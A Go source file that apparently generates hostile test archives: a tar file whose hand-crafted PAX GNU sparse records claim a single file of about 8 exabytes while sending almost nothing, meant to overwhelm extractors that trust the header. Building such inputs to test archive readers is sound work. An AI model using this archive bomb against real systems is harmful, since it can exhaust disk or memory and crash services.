// Package bombs makes archives that no packer makes: small as they are sent, and endless for who believes what they say.
package bombs

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io"
)

// Sparse is an archive of one file that is said to have 8 EB, and of which nothing is sent: a hole of all of it, in the form that PAX has.
func Sparse(name string) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	body := make([]byte, 512) // the map: one entry of no bytes, at the end
	copy(body, "1\n9223372036854775807\n0\n")
	err := w.WriteHeader(&tar.Header{Name: "GNUSparseFile.0/x", Typeflag: tar.TypeReg, Mode: 0o644, Size: 512, Format: tar.FormatPAX,
		PAXRecords: map[string]string{"comment": "GNU.sparse.major=1"}})
	if err != nil {
		panic(err)
	}
	_, _ = w.Write(body)
	_ = w.Close()
	// The package does not write such records, so they take the place of one of the same length.
	records := paxRecord("GNU.sparse.major", "1") + paxRecord("GNU.sparse.minor", "0") + paxRecord("GNU.sparse.name", name) +
		paxRecord("GNU.sparse.realsize", "9223372036854775807")
	raw := b.Bytes()
	return bytes.Join([][]byte{paxBlock(records), raw[1024:]}, nil)
}

func paxRecord(k, v string) string {
	size := len(k) + len(v) + 3
	for n := 0; n != size; { // its own length is part of it
		n = size
		size = len(k) + len(v) + 3 + len(fmt.Sprint(n))
	}
	return fmt.Sprintf("%d %s=%s\n", size, k, v)
}

// paxBlock is the head of extended records, and they.
func paxBlock(records string) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	if err := w.WriteHeader(&tar.Header{Name: "PaxHeaders.0/x", Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(records))}); err != nil {
		panic(err)
	}
	_, _ = io.WriteString(w, records)
	_ = w.Flush()
	raw := b.Bytes()
	raw[156] = 'x'
	copy(raw[148:156], "        ")
	sum := 0
	for _, c := range raw[:512] {
		sum += int(c)
	}
	copy(raw[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return raw
}
